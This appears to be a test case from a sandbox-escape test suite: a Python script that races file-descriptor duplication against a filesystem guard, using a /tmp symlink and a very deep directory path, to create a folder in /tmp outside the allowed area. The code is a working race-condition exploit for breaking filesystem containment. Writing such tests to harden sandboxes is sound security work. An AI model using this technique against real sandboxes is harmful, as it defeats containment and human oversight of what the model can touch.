# class: files
# rule: read_write_tmp
# success: a folder of /tmp takes the fd by which the guard holds another folder, and a folder is
#   made there
# proof: new
# timeout: 60
import os
import sys
import threading
import time

from attack import NEW, attempt

COPY = 90


def is_tmp(number):
    try:
        return os.path.samestat(os.stat(number), os.stat("/tmp"))
    except OSError:
        return False


@attempt
def make():
    name = os.path.basename(NEW)
    top = os.getcwd()
    os.symlink("/tmp", "innocent")
    # A folder with a long path: to find that out takes the guard a while.
    while len(os.getcwd()) < 3700:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    number = os.open(os.devnull, os.O_RDONLY)
    os.close(number)
    end = time.monotonic() + 4
    done = []
    sys.setswitchinterval(1e-6)

    def ask():
        while not done and time.monotonic() < end:
            try:
                os.mkdir(top + "/innocent/" + name)
                done.append("made")
            except OSError:
                pass

    thread = threading.Thread(target=ask)
    thread.start()
    while not done and time.monotonic() < end:
        try:
            copy = os.dup(number)
        except OSError:
            continue
        os.dup2(copy, COPY, False)
        os.close(copy)
        if is_tmp(COPY):
            done.append("held")
    thread.join()
    if "held" not in done or os.path.lexists(NEW):
        return os.path.lexists(NEW)
    end = time.monotonic() + 6

    def swap():
        while not os.path.lexists(NEW) and time.monotonic() < end:
            try:
                os.get_inheritable(number)
                os.dup2(COPY, number, False)
                if is_tmp(number):
                    time.sleep(0.00002)
                    os.close(number)
            except OSError:
                continue

    thread = threading.Thread(target=swap)
    thread.start()
    while not os.path.lexists(NEW) and time.monotonic() < end:
        try:
            os.mkdir("./" + name)
            os.rmdir("./" + name)
        except OSError:
            continue
    thread.join()
    return os.path.lexists(NEW)
